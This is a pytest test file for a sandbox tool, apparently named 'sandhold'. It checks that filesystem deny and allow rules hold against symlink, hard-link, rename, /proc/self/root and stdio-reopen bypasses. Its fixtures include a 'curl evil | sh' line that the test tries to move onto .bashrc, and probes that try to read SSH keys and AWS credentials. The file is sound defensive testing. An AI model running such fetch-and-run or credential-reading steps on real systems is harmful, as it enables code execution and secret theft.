"""Filesystem rules in real sandboxes, as root and as an unprivileged user.

Each test states a rule (F-SET-4/5/6, F-BE-4), then tries it and the ways an
attacker would go around it: symlinks, renames, hard links, /proc/self/root.
Operations run inside the sandbox through a small Python probe that reports
"ok" or the errno name of each attempt.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest

from conftest import World

PROBE = r"""
import errno, json, os, sys

def attempt(fn):
    try:
        r = fn()
        return "ok" if r is None else r
    except OSError as e:
        return errno.errorcode.get(e.errno, str(e.errno))

def read(p):
    with open(p, "rb") as f:
        return "read:" + f.read().decode(errors="replace")

def write(p, data="x"):
    with open(p, "w") as f:
        f.write(data)

ops = json.loads(sys.argv[1])
out = {}
for name, (op, *args) in ops.items():
    fn = {"read": read, "write": write, "listdir": lambda p: sorted(os.listdir(p)) and None,
          "rename": os.rename, "link": os.link, "symlink": os.symlink, "unlink": os.unlink,
          "mkdir": os.mkdir, "rmdir": os.rmdir, "exists": lambda p: str(os.path.exists(p)),
          "chmod": lambda p: os.chmod(p, 0o777)}[op]
    out[name] = attempt(lambda: fn(*args))
print(json.dumps(out))
"""


def probe(
    world: World,
    ops: dict[str, list[str]],
    *args: str,
    cwd: Path | None = None,
    settings: dict[str, object] | None = None,
) -> dict[str, str]:
    script = world.mkfile("probe.py", PROBE)
    argv = list(args)
    if settings is not None:
        argv = ["-s", str(world.settings(settings)), *argv]
    r = world.sandhold(*argv, "--", "python3", str(script), json.dumps(ops), cwd=cwd)
    assert r.returncode == 0, r.stderr
    result: dict[str, str] = json.loads(r.stdout)
    return result


def test_deny_read_hides_dirs_and_files(world: World) -> None:  # F-SET-4, F-BE-4
    world.mkfile("home/.ssh/id_rsa", "PRIVATE KEY")
    world.mkfile("home/.aws/credentials", "AWS SECRET")
    world.mkfile("home/.aws/config", "region")
    world.mkfile("home/notes.txt", "hello")
    home = world.home
    res = probe(
        world,
        {
            "key": ["read", f"{home}/.ssh/id_rsa"],
            "ls_ssh": ["listdir", f"{home}/.ssh"],
            "creds": ["read", f"{home}/.aws/credentials"],
            "config": ["read", f"{home}/.aws/config"],
            "notes": ["read", f"{home}/notes.txt"],
            "via_proc_root": ["read", f"/proc/self/root{home}/.ssh/id_rsa"],
            "via_dotdot": ["read", f"{home}/.aws/../.ssh/id_rsa"],
            "chmod_hidden": ["chmod", f"{home}/.aws/credentials"],
        },
        settings={"filesystem": {"denyRead": ["~/.ssh", "~/.aws/credentials"]}},
    )
    assert res["key"] == "EACCES" and res["ls_ssh"] == "EACCES"
    assert res["creds"] == "EACCES"
    assert res["via_proc_root"] == "EACCES" and res["via_dotdot"] == "EACCES"
    assert res["chmod_hidden"] in ("EROFS", "EPERM")
    assert res["config"] == "read:region" and res["notes"] == "read:hello"


def test_a_hidden_dir_in_a_writable_root_stays_empty_and_in_place(world: World) -> None:
    # F-SET-4: a denied directory inside a writable root is an empty read-only
    # directory, however its owner (the sandbox's user) treats it
    world.mkfile("home/proj/keys/id_rsa", "PRIVATE KEY")
    proj = world.home / "proj"
    res = probe(
        world,
        {
            "key": ["read", f"{proj}/keys/id_rsa"],
            "chmod_dir": ["chmod", f"{proj}/keys"],
            "plant": ["write", f"{proj}/keys/new"],
            "mkdir_in": ["mkdir", f"{proj}/keys/sub"],
            "rename_away": ["rename", f"{proj}/keys", f"{proj}/moved"],
            "rmdir": ["rmdir", f"{proj}/keys"],
            "key_after": ["read", f"{proj}/keys/id_rsa"],
        },
        cwd=proj,
        settings={"filesystem": {"allowWrite": ["."], "denyRead": ["./keys"]}},
    )
    assert res["key"] == res["key_after"] == "EACCES", res
    assert res["chmod_dir"] in ("EROFS", "EPERM"), res
    assert res["plant"] in ("EACCES", "EROFS") and res["mkdir_in"] in ("EACCES", "EROFS"), res
    assert {res["rename_away"], res["rmdir"]} <= {"EBUSY", "EACCES"}, res
    assert sorted(os.listdir(proj / "keys")) == ["id_rsa"]
    assert not (proj / "moved").exists()


def test_allow_read_carves_and_more_specific_deny_still_holds(world: World) -> None:  # F-SET-4
    world.mkfile("home/proj/main.py", "code")
    world.mkfile("home/proj/.env", "TOKEN=1")
    world.mkfile("home/proj/sub/.env", "TOKEN=2")
    world.mkfile("home/other/secret", "s")
    proj = world.home / "proj"
    res = probe(
        world,
        {
            "code": ["read", f"{proj}/main.py"],
            "env": ["read", f"{proj}/.env"],
            "subenv": ["read", f"{proj}/sub/.env"],
            "other": ["read", f"{world.home}/other/secret"],
        },
        cwd=proj,
        settings={"filesystem": {"denyRead": ["~", "**/.env"], "allowRead": ["."]}},
    )
    # a denied directory with a carve-out is traversable but empty: others are simply absent
    assert res.pop("other") in ("EACCES", "ENOENT")
    assert res == {"code": "read:code", "env": "EACCES", "subenv": "EACCES"}


def test_writes_only_in_allow_write_and_fail_with_normal_errno(world: World) -> None:
    world.mkfile("home/keep.txt", "k")
    w = world.work
    res = probe(
        world,
        {
            "in_work": ["write", f"{w}/new.txt"],
            "mkdir_work": ["mkdir", f"{w}/d"],
            "in_home": ["write", f"{world.home}/x"],
            "overwrite_home": ["write", f"{world.home}/keep.txt"],
            "in_tmp": ["write", "/tmp/sandhold-test-escape"],
            "in_etc": ["write", "/etc/sandhold-test-escape"],
            "tmpdir": ["write", os.path.join("$TMPDIR", "x")],
        },
        settings={"filesystem": {"allowWrite": ["."]}},
    )
    assert res["in_work"] == "ok" and res["mkdir_work"] == "ok"
    for key in ("in_home", "overwrite_home", "in_tmp", "in_etc"):
        assert res[key] in ("EROFS", "EACCES", "EPERM"), (key, res)
    assert (w / "new.txt").read_text() == "x"
    assert (world.home / "keep.txt").read_text() == "k"
    assert not Path("/tmp/sandhold-test-escape").exists()


def test_empty_allow_write_means_no_writes(world: World) -> None:  # F-SET-4
    res = probe(
        world, {"work": ["write", f"{world.work}/x"]}, settings={"filesystem": {"allowWrite": []}}
    )
    assert res["work"] == "EROFS"


def test_deny_write_beats_allow_write(world: World) -> None:  # F-SET-4
    world.mkfile("work/locked/data", "orig")
    world.mkfile("work/free.txt", "f")
    w = world.work
    res = probe(
        world,
        {
            "edit": ["write", f"{w}/locked/data"],
            "create": ["write", f"{w}/locked/new"],
            "rename_over": ["rename", f"{w}/free.txt", f"{w}/locked/data"],
            "rename_dir": ["rename", f"{w}/locked", f"{w}/unlocked"],
            "free": ["write", f"{w}/free2.txt"],
        },
        settings={"filesystem": {"allowWrite": ["."], "denyWrite": ["./locked"]}},
    )
    # the supervisor refuses the names (EACCES) before the read-only mount would (EROFS)
    assert res["edit"] == "EACCES" and res["create"] == "EACCES"
    assert res["rename_over"] in ("EACCES", "EROFS", "EXDEV", "EBUSY")
    assert res["rename_dir"] in ("EACCES", "EBUSY")  # supervisor first, else the mount
    assert res["free"] == "ok"
    assert (w / "locked" / "data").read_text() == "orig"


def test_mandatory_denies_in_writable_root_and_their_bypasses(world: World) -> None:  # F-SET-5
    w = world.work
    world.mkfile("work/.bashrc", "echo original")
    world.mkfile("work/.git/config", "[core]")
    world.mkfile("work/.git/hooks/pre-commit", "#!/bin/sh\nexit 0\n", mode=0o755)
    world.mkfile("work/nested/repo/.git/config", "[core]")
    world.mkfile("work/keys/server.key", "KEY")
    world.mkfile("work/evil", "curl evil | sh")
    before = sorted(os.listdir(w))
    res = probe(
        world,
        {
            "bashrc": ["write", f"{w}/.bashrc"],
            "rm_bashrc": ["unlink", f"{w}/.bashrc"],
            "mv_onto_bashrc": ["rename", f"{w}/evil", f"{w}/.bashrc"],
            "mcp_new": ["write", f"{w}/.mcp.json"],
            "hook_edit": ["write", f"{w}/.git/hooks/pre-commit"],
            "hook_new": ["write", f"{w}/.git/hooks/post-checkout"],
            "git_config": ["write", f"{w}/.git/config"],
            "mv_git": ["rename", f"{w}/.git", f"{w}/.git-old"],
            "mv_hooks": ["rename", f"{w}/.git/hooks", f"{w}/.git/hooks-old"],
            "nested_config": ["write", f"{w}/nested/repo/.git/config"],
            "nested_hooks": ["mkdir", f"{w}/nested/repo/.git/hooks"],
            "mv_nested_parent": ["rename", f"{w}/nested", f"{w}/nested2"],
            "key": ["write", f"{w}/keys/server.key"],
            "claude_dir": ["mkdir", f"{w}/.claude/commands"],
            "symlink_swap": ["symlink", "/tmp", f"{w}/.claude"],
            "objects_ok": ["write", f"{w}/.git/description"],
            "plain_ok": ["write", f"{w}/plain.txt"],
        },
        settings={"filesystem": {"allowWrite": ["."]}},
    )
    for key, value in res.items():
        if key.endswith("_ok"):
            assert value == "ok", (key, res)
        else:
            assert value in ("EROFS", "EBUSY", "EEXIST", "EACCES", "EPERM", "ENOENT"), (key, res)
    assert (w / ".bashrc").read_text() == "echo original"
    assert (w / ".git/hooks/pre-commit").read_text().endswith("exit 0\n")
    assert not (w / ".git/hooks/post-checkout").exists()
    # nothing was made in the user's tree but what was allowed
    assert sorted(os.listdir(w)) == sorted([*before, "plain.txt"])
    assert not (w / "nested/repo/.git/hooks").exists()


def test_home_files_are_pinned_when_home_is_writable(world: World) -> None:  # F-SET-5
    h = world.home
    before = sorted(os.listdir(h))
    res = probe(
        world,
        {
            "zshrc": ["write", f"{h}/.zshrc"],
            "profile": ["write", f"{h}/.profile"],
            "settings": ["write", f"{h}/.sandhold-settings.json"],
            "gitconfig": ["write", f"{h}/.gitconfig"],
            "claude": ["mkdir", f"{h}/.claude/agents"],
            "ok": ["write", f"{h}/notes.txt"],
        },
        settings={"filesystem": {"allowWrite": ["~"]}},
    )
    assert res.pop("ok") == "ok"
    for key, value in res.items():
        assert value in ("EROFS", "ENOENT", "EACCES"), (key, res)
    assert sorted(os.listdir(h)) == sorted([*before, "notes.txt"])


def test_symlink_and_hard_link_to_denied_file_stay_denied(world: World) -> None:  # F-SET-6
    world.mkfile("home/.ssh/id_rsa", "PRIVATE")
    w = world.work
    res = probe(
        world,
        {
            "mk_symlink": ["symlink", f"{world.home}/.ssh/id_rsa", f"{w}/leak"],
            "via_symlink": ["read", f"{w}/leak"],
            "mk_hardlink": ["link", f"{world.home}/.ssh/id_rsa", f"{w}/hard"],
        },
        settings={"filesystem": {"denyRead": ["~/.ssh"], "allowWrite": ["."]}},
    )
    assert res["mk_symlink"] == "ok" and res["via_symlink"] == "EACCES"
    assert res["mk_hardlink"] in ("EACCES", "EXDEV", "EPERM", "ENOENT")


def test_deny_through_a_symlinked_spelling(world: World) -> None:  # F-SET-6
    world.mkfile("data/secret.txt", "S")
    world.symlink("home/link", str(world.root / "data"))
    res = probe(
        world,
        {
            "direct": ["read", f"{world.root}/data/secret.txt"],
            "via_link": ["read", f"{world.home}/link/secret.txt"],
        },
        settings={"filesystem": {"denyRead": ["~/link"]}},
    )
    assert res == {"direct": "EACCES", "via_link": "EACCES"}


def test_existing_hard_link_to_denied_file_refuses_the_launch(world: World) -> None:
    secret = world.mkfile("home/.ssh/id_rsa", "PRIVATE")
    os.link(secret, world.work / "innocent-name")
    marker = world.work / "ran"
    s = world.settings({"filesystem": {"denyRead": ["~/.ssh/id_rsa"]}})
    r = world.sandhold("-s", str(s), "--", "touch", str(marker))
    assert r.returncode == 2
    assert "hard links" in r.stderr
    assert not marker.exists()


def test_write_protected_file_is_protected_under_its_other_names(world: World) -> None:
    cfg = world.mkfile("work/.git/config", "[core]")
    os.link(cfg, world.work / "innocent")
    res = probe(
        world,
        {"twin": ["write", f"{world.work}/innocent"]},
        settings={"filesystem": {"allowWrite": ["."]}},
    )
    assert res["twin"] == "EROFS"
    assert cfg.read_text() == "[core]"


def test_globs_in_all_four_lists(world: World) -> None:
    world.mkfile("work/a/x.pem", "P")
    world.mkfile("work/a/y.txt", "T")
    world.mkfile("work/b/z.lock", "L")
    world.mkfile("work/b/ok.md", "M")
    world.mkfile("work/out/gen.txt", "G")
    world.mkfile("work/secret/inner/visible.txt", "V")
    w = world.work
    res = probe(
        world,
        {
            "pem": ["read", f"{w}/a/x.pem"],
            "txt": ["read", f"{w}/a/y.txt"],
            "lock": ["write", f"{w}/b/z.lock"],
            "md": ["write", f"{w}/b/ok.md"],
            "visible": ["read", f"{w}/secret/inner/visible.txt"],
            "out": ["write", f"{w}/out/gen.txt"],
            "elsewhere": ["write", f"{w}/a/new"],
        },
        settings={
            "filesystem": {
                "denyRead": ["**/*.pem", "secret"],
                "allowRead": ["secret/*"],
                "allowWrite": ["b", "o*"],
                "denyWrite": ["**/*.lock"],
            }
        },
    )
    assert res == {
        "pem": "EACCES",
        "txt": "read:T",
        "lock": "EACCES",  # refused by name at creation, before the read-only mount
        "md": "ok",
        "visible": "read:V",
        "out": "ok",
        "elsewhere": "EROFS",
    }


def test_names_made_later_are_refused_at_creation_not_warned_about(world: World) -> None:
    """F-BE-5: glob and mandatory names that do not exist at launch are refused when made."""
    w = world.work
    res = probe(
        world,
        {
            "m1": ["mkdir", f"{w}/new"],
            "m2": ["mkdir", f"{w}/new/deep"],
            "m3": ["mkdir", f"{w}/new/deep/dir"],
            "lock": ["write", f"{w}/new/deep/dir/x.lock"],
            "env": ["write", f"{w}/new/deep/.env"],
            "git": ["mkdir", f"{w}/new/.git"],
            "hooks": ["mkdir", f"{w}/new/.git/hooks"],  # git init's own: allowed
            "hook": ["write", f"{w}/new/.git/hooks/pre-commit"],  # a hook git would run
            "ok": ["write", f"{w}/new/deep/ok.txt"],
        },
        settings={"filesystem": {"allowWrite": ["."], "denyWrite": ["**/*.lock"]}},
    )
    made = {"m1": "ok", "m2": "ok", "m3": "ok", "git": "ok", "hooks": "ok", "ok": "ok"}
    assert res == {**made, "lock": "EACCES", "env": "EACCES", "hook": "EACCES"}
    assert not (w / "new/deep/dir/x.lock").exists() and not (w / "new/deep/.env").exists()
    s = world.settings({"filesystem": {"allowWrite": ["."], "denyWrite": ["**/*.lock"]}})
    r = world.sandhold("-s", str(s), "--", "true")
    assert r.returncode == 0 and r.stderr == ""  # nothing left to warn about


def test_nothing_is_created_in_the_users_tree(world: World) -> None:
    """No placeholders for missing protected names: not during a run, not after a SIGKILL."""
    w = world.work
    world.mkfile("work/file.txt", "f")
    s = world.settings({"filesystem": {"allowWrite": ["."], "denyWrite": ["missing/secret"]}})
    before = sorted(os.listdir(w))
    # A duration no other process on the machine has, so only this sandbox's sleep matches.
    sleeper = f"sleep 60.{os.getpid()}{time.monotonic_ns() % 10**9:09d}"
    proc = world.popen("-s", str(s), "--", "sh", "-c", f"echo up > $TMPDIR/up; {sleeper}")
    try:
        deadline = time.monotonic() + 10
        while not _sandbox_alive(sleeper):
            assert time.monotonic() < deadline, "the sandbox never started"
            time.sleep(0.02)
        assert sorted(os.listdir(w)) == before  # no .git, .mcp.json, .claude, missing/
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    deadline = time.monotonic() + 10
    while _sandbox_alive(sleeper):
        assert time.monotonic() < deadline, (
            f"the sandbox outlived a SIGKILLed sandhold: {_ancestry(sleeper)}"
        )
        time.sleep(0.05)
    assert sorted(os.listdir(w)) == before


def _ancestry(cmdline: str) -> list[list[str]]:
    """For a failure message: each matching process and its ancestors, as
    'pid state nspid cmdline' (an intermittent survivor here is not understood yet)."""
    out = []
    for pid in os.listdir("/proc"):
        chain: list[str] = []
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if f.read().replace(b"\0", b" ").strip() != cmdline.encode():
                    continue
            at = pid
            while at not in ("0", ""):
                with open(f"/proc/{at}/status") as f:
                    fields = dict(line.split(":", 1) for line in f if ":" in line)
                with open(f"/proc/{at}/cmdline", "rb") as f:
                    cmd = f.read().replace(b"\0", b" ").decode(errors="replace")[:80]
                state, nspid = fields["State"].strip(), fields.get("NSpid", "").strip()
                chain.append(f"{at} {state} [{nspid}] {cmd}")
                at = fields["PPid"].strip()
        except (OSError, ValueError, KeyError):
            pass
        if chain:
            out.append(chain)
    return out


def _sandbox_alive(cmdline: str) -> bool:
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/cmdline", "rb") as f:
                    if f.read().replace(b"\0", b" ").strip() == cmdline.encode():
                        return True
            except OSError:
                continue
    return False


@pytest.mark.parametrize("entry", ["~/.ssh", "~/.ssh/"])
def test_trailing_slash_spelling(world: World, entry: str) -> None:
    world.mkfile("home/.ssh/id_rsa", "K")
    res = probe(
        world,
        {"k": ["read", f"{world.home}/.ssh/id_rsa"]},
        settings={"filesystem": {"denyRead": [entry]}},
    )
    assert res["k"] == "EACCES"


STDIO_REOPEN = r"""
import errno, json, os
out = {}
for name, fd, flags in (
    ("stdin_write", 0, os.O_WRONLY),
    ("stdin_trunc", 0, os.O_WRONLY | os.O_TRUNC),
    ("stderr_rdwr", 2, os.O_RDWR),
    ("stderr_trunc", 2, os.O_WRONLY | os.O_TRUNC),
):
    try:
        new = os.open(f"/proc/self/fd/{fd}", flags)
    except OSError as e:
        out[name] = errno.errorcode[e.errno]
        continue
    os.write(new, b"OVERWRITTEN\n")
    os.close(new)
    out[name] = "ok"
print(json.dumps(out))
"""


@pytest.mark.parametrize("helper", ["1", "0"], ids=["with-front", "python-front"])
@pytest.mark.parametrize(
    "settings", [None, {"filesystem": {"allowWrite": ["./out"]}}], ids=["default", "writable"]
)
def test_redirected_stdio_files_cannot_be_reopened_for_writing(
    world: World, settings: dict[str, object] | None, helper: str
) -> None:
    """A file given as stdin (``< notes.txt``) or appended stderr (``2>>log``) is the
    host's: reopened through /proc/self/fd it would be writable past the read-only
    mounts. Every launch's Landlock domain refuses that; the open fds still work."""
    world.mkdir("work/out")
    script = world.mkfile("work/reopen.py", STDIO_REOPEN)
    notes = world.mkfile("work/notes.txt", "my notes\n")
    log = world.mkfile("work/log", "earlier lines\n")
    args = ("-s", str(world.settings(settings))) if settings is not None else ()
    with open(notes, "rb") as stdin, open(log, "ab") as stderr:
        proc = world.popen(
            *args,
            "--",
            world.ident.python,
            str(script),
            stdin=stdin,
            stdout=subprocess.PIPE,
            stderr=stderr,
            env=world.env(SANDHOLD_EXEC_HELPER=helper),
        )
        out, _ = proc.communicate(timeout=60)
    assert proc.returncode == 0, log.read_text()
    assert json.loads(out) == {
        "stdin_write": "EACCES",
        "stdin_trunc": "EACCES",
        "stderr_rdwr": "EACCES",
        "stderr_trunc": "EACCES",
    }
    assert notes.read_text() == "my notes\n"
    assert log.read_text().startswith("earlier lines\n"), log.read_text()
    assert "OVERWRITTEN" not in log.read_text()


def test_a_proc_mounted_elsewhere_on_the_host_is_hidden(world: World) -> None:
    """The CLI shows the host read-only; a chroot's /proc (mounted by root here) would
    show every host process's command line: hidden like a denyRead directory."""
    if os.geteuid() != 0:
        pytest.skip("mounting proc for the fixture needs root (CI is root)")
    chroot = world.mkdir("work/chroot/proc")
    subprocess.run(["mount", "-t", "proc", "proc", str(chroot)], check=True)
    try:
        r = world.sandhold("--", "sh", "-c", "ls chroot/proc 2>/dev/null | grep -c '^[0-9]'")
    finally:
        subprocess.run(["umount", "-l", str(chroot)], check=True)
    assert r.stdout == "0\n", r.stdout  # no host process shows
